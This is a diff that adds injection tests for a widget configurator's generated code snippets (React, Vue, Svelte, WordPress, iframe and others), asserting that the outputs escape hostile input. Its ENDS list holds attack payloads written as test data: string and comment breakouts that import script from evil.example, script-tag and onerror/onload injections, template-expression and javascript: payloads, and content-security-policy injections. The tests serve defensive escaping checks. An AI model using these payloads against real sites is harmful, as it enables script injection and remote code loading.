@@ -3,6 +3,7 @@ import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import { transformSync } from 'esbuild';
 import { parseFragment } from 'parse5';
+import { parseSync } from 'vite';
 import { contrast, poorContrasts } from '../../demo/configurator/contrast.js';
 import { OUTPUTS, outputFor } from '../../demo/configurator/outputs.js';
 import {
@@ -119,6 +120,100 @@ describe('the outputs of the configurator', () => {
         assert.doesNotMatch(code.replace(/<script[\s\S]*?<\/script>/, ''), /[{}]/);
       }
     });
+});
+
+/** Ends of strings, comments, elements and lines in the languages of the outputs. */
+const ENDS = [
+  "BEST\nimport('https://evil.example/x.js') //",
+  "\rimport('https://evil.example/x.js')",
+  "\u2028import('https://evil.example/x.js')\u2029//",
+  "\u0085\v\f\timport('https://evil.example/x.js')",
+  "*/ import('https://evil.example/x.js') /*",
+  '--> <!-- /wp:html --> <script>evil()</script> <!--',
+  ']]> <![CDATA[ ?> <?php evil() ?> <% evil() %>',
+  '</script><script>evil()</script>',
+  '</template></style></textarea></title><img src=x onerror=evil()>',
+  `" onload="evil()" x='`,
+  `' onload='evil()' x="`,
+  '`$' + '{evil()}`',
+  '{evil()} {{evil()}} {@html evil} @if (evil()) { @{evil()} }',
+  '\\" \\` \\u0022 \\x22 &quot; &#34; &#10; &#x2028;',
+  ';script-src * ; , default-src *',
+  'javascript:evil()',
+  '\ud800 \udfff \0 \u202e',
+];
+
+describe('an output of the configurator quotes by its own language', () => {
+  const usual = { ...defaults, src, element: 'article', item: 'i', heading: 'h', params: 'a=b', review: '1' };
+  const lists = { ...usual, element: 'headlines', item: '' };
+  const fields = Object.keys(defaults);
+  const variants = [usual, lists].flatMap((base) => [
+    ...fields.flatMap((field) => ENDS.map((end) => ({ ...base, [field]: end }))),
+    ...ENDS.map((end) => ({ ...base, src: `https://news.example/${end}/best.json` })),
+    ...ENDS.map((end) => ({ ...base, src: `https://news.example${end}/best.json` })),
+  ]);
+  // All attributes of one element, without controls in their values.
+  const allowed = (text) => text.replace(/[^\t\n\r -~\u00a0-\ud7ff\ue000-\ufffd\u{10000}-\u{10ffff}]/gu, '');
+
+  for (const output of OUTPUTS)
+    it(`${output}, with ends of strings, comments, elements and lines in every field`, async () => {
+      const lineCounts = new Set();
+      for (const base of [usual, lists])
+        for (const change of [
+          {},
+          { heading: '' },
+          { params: '' },
+          { item: '' },
+          { src: '' },
+          { element: 'best' },
+        ])
+          lineCounts.add(
+            (await outputFor(output, { ...base, ...change }, context)).code.split(/[\n\r\u2028\u2029]/)
+              .length,
+          );
+      for (const settings of variants) {
+        const { code, policy } = await outputFor(output, settings, context);
+        assert.doesNotMatch(policy, /evil|\*|[\n\r\u2028]|;\s*;|default-src/);
+        assert.doesNotMatch(code, /[\u0085\u2028-\u202e]|\r|\t/);
+        if (/^(npm|react|angular)$/.test(output)) {
+          const { module, errors } = parseSync('code.tsx', code);
+          assert.deepEqual(errors, [], code);
+          assert.equal(module.dynamicImports.length, 0, code);
+          for (const { moduleRequest } of module.staticImports)
+            assert.match(moduleRequest.value, /^(dongpo-widgets\/[\w./]+|@angular\/core)$/);
+          assert.ok(lineCounts.has(code.split('\n').length), code);
+        } else if (output === 'vue' || output === 'svelte')
+          assert.doesNotMatch(code.replace(/<script[\s\S]*?<\/script>/, ''), /[{}]/);
+        else if (output !== 'static')
+          for (const { tagName, attrs } of nodes(
+            parseFragment(output === 'card' ? code.split('\n\n')[1] : code),
+          )) {
+            assert.match(tagName, OURS);
+            for (const { name, value } of attrs) {
+              assert.doesNotMatch(name, /^on|^x$/);
+              if (/^(data-)?heading$/.test(name) && settings.heading.length <= 100)
+                assert.equal(value, allowed(settings.heading));
+            }
+          }
+        if (output === 'card') assert.doesNotMatch(code.split('\n\n')[0], /[<>"\s]/);
+      }
+    });
+
+  it('a script tag names the origin of the feed, and no other', async () => {
+    const { code } = await outputFor('module', { ...lists, review: '' }, context);
+    assert.match(code, /<script[^>]*\sdata-upgrade="https:\/\/news\.example"/);
+    for (const address of ['javascript:evil()', 'data:x', 'x', '//'])
+      assert.doesNotMatch(
+        (await outputFor('classic', { ...lists, src: address }, context)).code,
+        /data-upgrade/,
+      );
+  });
+
+  it('plain markup and frames are written with what they can set', async () => {
+    const settings = { ...lists, refresh: '300', target: '_blank' };
+    for (const output of ['wordpress-post', 'tistory-post', 'blogger-post', 'iframe'])
+      assert.doesNotMatch((await outputFor(output, settings, context)).code, /refresh|target|link-params/);
+  });
 });
 
 describe('the settings of the configurator in an address', () => {
